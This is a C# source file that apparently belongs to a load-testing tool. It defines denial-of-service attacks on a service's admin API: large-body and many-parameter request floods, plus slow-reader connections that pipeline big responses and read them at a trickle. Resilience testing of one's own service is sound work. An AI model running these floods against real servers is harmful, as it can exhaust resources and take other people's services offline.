using System.Diagnostics.CodeAnalysis;
using System.Net;
using System.Net.Sockets;

namespace Attacks;

/// <summary>Where to attack, and with what.</summary>
internal sealed record Target(Uri Server, string Token, string ReadToken);

/// <summary>Many connections that do something expensive, over and over.</summary>
internal abstract class Attack(string name, int connections, string description)
{
    public const string Api = "/api/v1.1/admin/";

    private static readonly TimeSpan ReconnectDelay = TimeSpan.FromMilliseconds(100);

    public static Attack[] All { get; } =
    [
        new BodyFlood("unknown-parameters", "64 KiB of unknown parameters each, no token, 0.8 MB/s in all", Body.UnknownParameters),
        new BodyFlood("xml-instructions", "64 KiB of <title>a<?b?>a<?b?>… each, no token, 0.8 MB/s in all", Body.ProcessingInstructions),
        new BodyFlood("url-parameters", "1,300 parameters in the URL, no token, 0.8 MB/s in all", Body.UrlParameters),
        new SlowReaders("slow-accounts", 90, "pipeline accounts/list of 1,000 accounts and read 1.5 KB/s", SlowReaders.ListOf("accounts")),
        new SlowReaders("slow-tariffs", 90, "pipeline tariffs/list of 1,000 large tariffs and read 1.5 KB/s", SlowReaders.ListOf("tariffs")),
        new SlowReaders("docs", 830, "pipeline 1 MB of requests for the largest script of /docs and read 1 B/s", SlowReaders.DocsScriptAsync, pipelined: 1 << 20, readPerSecond: 1),
    ];

    public string Name { get; } = name;

    public string Description { get; } = $"{connections} connections: {description}";

    /// <summary>What the attackers were answered.</summary>
    public Tally Answers { get; } = new();

    public static Attack Named(string name) => Array.Find(All, attack => attack.Name == name) ?? throw new LoadGenerator.UsageException($"no attack \"{name}\"");

    /// <summary>Attacks until the token is cancelled. Connections that are closed are opened again.</summary>
    public async Task RunAsync(Target target, CancellationToken ct)
    {
        await PrepareAsync(target, ct);
        await Task.WhenAll(Enumerable.Range(0, connections).Select(_ => Task.Run(() => KeepAttackingAsync(target, ct), CancellationToken.None)));
    }

    /// <summary>Called once, before the first connection is opened.</summary>
    protected virtual Task PrepareAsync(Target target, CancellationToken ct) => Task.CompletedTask;

    /// <summary>Works on one connection until it is closed or the token is cancelled.</summary>
    protected abstract Task UseConnectionAsync(Socket socket, CancellationToken ct);

    [SuppressMessage("Design", "CA1031", Justification = "Whatever ends a connection is counted, and the attack continues.")]
    private async Task KeepAttackingAsync(Target target, CancellationToken ct)
    {
        while (!ct.IsCancellationRequested)
        {
            // A small buffer on this side: what is not read stays with the service.
            using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true, ReceiveBufferSize = 4096 };
            try
            {
                await socket.ConnectAsync(new IPEndPoint(IPAddress.Parse(target.Server.Host), target.Server.Port), ct);
                await UseConnectionAsync(socket, ct);
            }
            catch (Exception) when (ct.IsCancellationRequested)
            {
                return;
            }
            catch (Exception error)
            {
                Answers.Add(error);
            }

            await Task.WhenAny(Task.Delay(ReconnectDelay, ct));
        }
    }
}
